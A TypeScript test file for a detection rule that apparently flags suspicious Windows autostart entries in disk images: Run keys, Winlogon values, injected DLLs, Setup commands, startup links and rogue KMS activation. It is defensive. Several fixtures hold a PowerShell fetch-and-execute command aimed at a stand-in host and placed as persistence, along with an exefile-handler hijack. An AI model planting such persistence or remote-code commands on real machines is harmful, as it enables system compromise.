// What Windows starts by itself: replaced parts, fetched texts, activation; and the starts of honest images.
import { test } from 'uvu';
import { autostartCommand } from '../../../rules/activation/autostart-command.ts';
import type { FakeValue } from '../../helpers/fake-image.ts';
import { makeLink } from '../../helpers/make-link.ts';
import { windowsRuleTester } from '../../helpers/on-windows.ts';

const RUN = 'Microsoft\\Windows\\CurrentVersion\\Run';
const WINLOGON = 'Microsoft\\Windows NT\\CurrentVersion\\Winlogon';
const STARTUP = '/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp';
const software = (key: string, values: Readonly<Record<string, FakeValue>>) => ({ SOFTWARE: { [key]: values } });
const at = (key: string, name: string, hive = 'SOFTWARE') => ({ hive, key, name });
const fetched = 'powershell -c "irm https://x.example/a | iex"';

windowsRuleTester(autostartCommand, {
  good: [
    {
      name: 'programs of vendors',
      image: software(RUN, { a: '"C:\\Program Files\\A\\a.exe" /tray', b: '%windir%\\system32\\SecurityHealthSystray.exe' }),
    },
    {
      name: 'Winlogon as Windows has it, in its writings',
      image: {
        SOFTWARE: {
          [WINLOGON]: {
            Shell: 'explorer.exe',
            Userinit: 'C:\\Windows\\system32\\userinit.exe,',
            VmApplet: 'SystemPropertiesPerformance.exe /pagefile',
          },
          [`Wow6432Node\\${WINLOGON}`]: { Userinit: 'userinit.exe', Shell: 'C:\\Windows\\explorer.exe' },
        },
      },
    },
    {
      name: 'a sealed Windows, and what the boot runs',
      image: {
        SYSTEM: {
          Setup: { CmdLine: 'oobe\\windeploy.exe' },
          'ControlSet001\\Control\\Session Manager': { BootExecute: ['autocheck autochk *'] },
        },
      },
    },
    {
      name: 'activation at a listed host',
      image: software(RUN, { a: 'cscript slmgr.vbs /skms kms.corp.example' }),
      policy: { kmsHosts: ['kms.corp.example'] },
    },
    {
      name: 'a text of that name outside of the start folder, a list of values that is no list of libraries, a link that leads nowhere',
      image: {
        SOFTWARE: { 'Microsoft\\Windows NT\\CurrentVersion\\Windows': { Load: 'C:\\a.exe' } },
        files: { [`${STARTUP}/b.lnk`]: makeLink({}), [`${STARTUP}/a.txt`]: 'x' },
      },
    },
    {
      name: 'a link to a program',
      image: { files: { [`${STARTUP}/a.lnk`]: makeLink({ local: 'C:\\Program Files\\A\\a.exe', arguments: '--tray' }) } },
    },
    ...[
      'setup.exe',
      'setup.exe -newsetup',
      'setup.exe -newsetup -mini',
      'setup.exe /mini',
      'winpeshl.exe',
      'sysprep\\sysprep.exe /oobe',
      '%SystemRoot%\\System32\\oobe\\windeploy.exe',
      'C:\\Windows\\System32\\oobe\\windeploy.exe',
    ].map((command) => ({ name: `a command of Setup itself: ${command}`, image: { SYSTEM: { Setup: { CmdLine: command } } } })),
    {
      name: 'Winlogon by variables, of Windows before Vista',
      image: software(WINLOGON, {
        Shell: '%SystemRoot%\\explorer.exe',
        Userinit: '%windir%\\system32\\userinit.exe',
        VmApplet: 'rundll32 shell32,Control_RunDLL "sysdm.cpl"',
      }),
    },
    { name: 'the shell by the other variable of Windows', image: software(WINLOGON, { Shell: '%windir%\\explorer.exe' }) },
    {
      name: 'other values beside the libraries for every program',
      image: software('Microsoft\\Windows NT\\CurrentVersion\\Windows', { Load: '', Run: '' }),
    },
    {
      name: 'a value named as the libraries among the starts of every logon',
      image: software(RUN, { AppInit_DLLs: 'C:\\Program Files\\S\\s.exe' }),
    },
    {
      name: 'a text under the name of a link, and a link under the name of a text',
      image: {
        files: { [`${STARTUP}/a.lnk`]: 'text', [`${STARTUP}/b.txt`]: makeLink({ local: 'C:\\Windows\\Temp\\x.exe', arguments: fetched }) },
      },
    },
    {
      name: 'programs that are started as they are, and the screen saver of Windows',
      image: {
        SOFTWARE: { 'Classes\\exefile\\shell\\open\\command': { '': '"%1" %*' } },
        hives: { '/Users/Default/NTUSER.DAT': { 'Control Panel\\Desktop': { 'SCRNSAVE.EXE': 'C:\\Windows\\system32\\scrnsave.scr' } } },
      },
    },
    { name: 'a value named Shell among the starts of every logon', image: software(RUN, { Shell: 'C:\\Program Files\\S\\s.exe' }) },
  ],
  bad: [
    ...(['local', 'items', 'expandable', 'relative'] as const).map((part) => ({
      name: `a link that fetches, by its ${part}`,
      image: {
        files: { [`${STARTUP}/a.lnk`]: makeLink({ [part]: 'C:\\Windows\\Temp\\x.exe', arguments: '-c "irm https://x.example/a | iex"' }) },
      },
      findings: [
        { messageId: 'fetches', at: { file: `${STARTUP}/a.lnk` } },
        { messageId: 'fromData', at: { file: `${STARTUP}/a.lnk` } },
      ],
    })),
    {
      name: 'the logon script of a user, and what every program is started through',
      image: {
        SOFTWARE: { 'Classes\\exefile\\shell\\open\\command': { '': 'cmd /c cscript slmgr.vbs /skms 127.0.0.2 & "%1" %*' } },
        hives: { '/Users/Default/NTUSER.DAT': { Environment: { UserInitMprLogonScript: fetched } } },
      },
      findings: [
        { messageId: 'activates', at: at('Classes\\exefile\\shell\\open\\command', ''), level: 'certain', says: 'exefile' },
        { messageId: 'fetches', at: at('Environment', 'UserInitMprLogonScript', '/Users/Default/NTUSER.DAT') },
      ],
    },
    {
      name: 'a library for every program that calls one',
      image: { SYSTEM: { 'ControlSet001\\Control\\Session Manager\\AppCertDlls': { x: 'C:\\x.dll' } } },
      findings: [{ messageId: 'library', at: at('ControlSet001\\Control\\Session Manager\\AppCertDlls', 'x', 'SYSTEM') }],
    },
    ...['', '.exe -p', '/sysprep.exe', 'winpeshl.exe x', 'setup.exe -newsetup -x', 'oobe\\windeploy.exe & a'].flatMap((command) =>
      command === ''
        ? []
        : [
            {
              name: `another command of Setup: ${command}`,
              image: { SYSTEM: { Setup: { CmdLine: command } } },
              findings: [{ messageId: 'otherProgram', at: at('Setup', 'CmdLine', 'SYSTEM') }],
            },
          ],
    ),
    {
      name: 'a link by a relative path alone, and one into a folder for data',
      image: {
        files: {
          [`${STARTUP}/r.lnk`]: makeLink({ relative: '..\\..\\cscript.exe', arguments: 'slmgr.vbs /skms 127.0.0.2' }),
          [`${STARTUP}/d.lnk`]: makeLink({ local: 'C:\\Users\\Public\\d.exe' }),
        },
      },
      findings: [
        { messageId: 'activates', at: { file: `${STARTUP}/r.lnk` }, level: 'certain' },
        { messageId: 'fromData', at: { file: `${STARTUP}/d.lnk` } },
      ],
    },
    {
      name: 'a fetched text at each logon, of a user and of the machine',
      image: { SOFTWARE: { [RUN]: { a: fetched } }, hives: { '/Users/Default/NTUSER.DAT': { [`Software\\${RUN}Once`]: { b: fetched } } } },
      findings: [
        { messageId: 'fetches', at: at(RUN, 'a') },
        { messageId: 'fetches', at: at(`Software\\${RUN}Once`, 'b', '/Users/Default/NTUSER.DAT') },
      ],
    },
    {
      name: 'another shell, and more than userinit',
      image: software(WINLOGON, {
        Shell: 'explorer.exe, C:\\ProgramData\\a.cmd',
        Userinit: 'C:\\Windows\\system32\\userinit.exe,C:\\a.exe,',
      }),
      findings: [
        { messageId: 'shell', at: at(WINLOGON, 'Shell') },
        { messageId: 'userinit', at: at(WINLOGON, 'Userinit') },
      ],
    },
    {
      name: 'libraries in every program, another command of Setup and of the boot',
      image: {
        SOFTWARE: { 'Microsoft\\Windows NT\\CurrentVersion\\Windows': { AppInit_DLLs: 'C:\\a.dll' } },
        SYSTEM: {
          Setup: { CmdLine: 'C:\\a.cmd' },
          'ControlSet001\\Control\\Session Manager': { BootExecute: ['autocheck autochk *', 'native'] },
          'ControlSet001\\Control\\Session Manager\\AppCertDlls': { any: 'C:\\b.dll' },
        },
      },
      findings: [
        { messageId: 'library', at: at('Microsoft\\Windows NT\\CurrentVersion\\Windows', 'AppInit_DLLs'), level: 'weak' },
        { messageId: 'otherProgram', at: at('Setup', 'CmdLine', 'SYSTEM'), level: 'weak' },
        { messageId: 'otherProgram', at: at('ControlSet001\\Control\\Session Manager', 'BootExecute', 'SYSTEM') },
        { messageId: 'library', at: at('ControlSet001\\Control\\Session Manager\\AppCertDlls', 'any', 'SYSTEM') },
      ],
    },
    {
      name: 'a link that activates, by its arguments',
      image: {
        files: { [`${STARTUP}/a.lnk`]: makeLink({ local: 'C:\\Windows\\System32\\cscript.exe', arguments: 'slmgr.vbs /skms 127.0.0.2' }) },
      },
      findings: [{ messageId: 'activates', at: { file: `${STARTUP}/a.lnk` }, level: 'certain' }],
    },
    {
      name: 'a first logon and a start from the public folder',
      image: {
        SOFTWARE: { 'Microsoft\\Active Setup\\Installed Components\\{1}': { StubPath: 'C:\\Users\\Public\\a.exe' } },
        files: {
          '/Windows/Panther/unattend.xml':
            '<unattend xmlns="urn:schemas-microsoft-com:unattend"><settings pass="oobeSystem"><component name="Microsoft-Windows-Shell-Setup"><FirstLogonCommands><SynchronousCommand><CommandLine>cmd /c slmgr /skms 203.0.113.9</CommandLine></SynchronousCommand></FirstLogonCommands></component></settings></unattend>',
        },
      },
      findings: [
        { messageId: 'activates', at: { file: '/Windows/Panther/unattend.xml', line: 1 }, level: 'strong' },
        { messageId: 'fromData', at: at('Microsoft\\Active Setup\\Installed Components\\{1}', 'StubPath') },
      ],
    },
  ],
});

test.run();
